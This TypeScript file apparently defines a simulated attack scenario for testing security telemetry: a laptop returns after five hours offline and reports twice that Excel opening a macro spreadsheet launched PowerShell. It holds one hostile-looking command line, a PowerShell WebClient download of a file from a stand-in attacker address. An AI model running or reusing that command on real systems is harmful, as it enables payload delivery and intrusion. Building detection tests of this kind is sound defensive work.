import { HOUR_MS, MINUTE_MS } from '../../../lib/duration.ts';
import { type Attack, laptopOf, markedDevice } from '../attack.ts';
import { initiatingColumns, processColumns } from '../columns.ts';
import { office, powershell, profileOf } from '../programs.ts';
import { record } from '../scene.ts';

const OFFLINE_MS = 5 * HOUR_MS;
const AGAIN_MS = 6 * MINUTE_MS;

export const returnedLaptop: Attack = {
  name: 'Laptop that was offline',
  story: 'A laptop comes back after five hours and only then tells, twice, that a spreadsheet had started a download.',
  atMinute: 11,
  play(scene, at) {
    const { device, person } = laptopOf(scene, 8);
    const excel = office('EXCEL.EXE', `${profileOf(device)}\\Downloads\\bonus.xlsm`);
    const shell = powershell(
      `powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://192.0.2.67/b.dat','${profileOf(device)}\\b.dat')"`,
    );
    const { columns, mark } = markedDevice(scene, device);
    const created = {
      ...columns,
      ...processColumns(shell, person, scene.random),
      ...initiatingColumns(excel, person, scene.random),
    };
    const before = scene.arrivals.length;
    record(scene, 'DeviceProcessEvents', at - OFFLINE_MS, created, { delayMs: OFFLINE_MS });
    const [told] = scene.arrivals.slice(before);
    if (told) scene.arrivals.push(repeated(told));
    return [mark];
  },
};

/** The same row once more, a little later. */
function repeated<One extends { readonly arrivesAt: number; readonly row: object }>(told: One): One {
  const arrivesAt = told.arrivesAt + AGAIN_MS;
  return { ...told, arrivesAt, row: { ...told.row, _ingested: new Date(arrivesAt).toISOString() } };
}
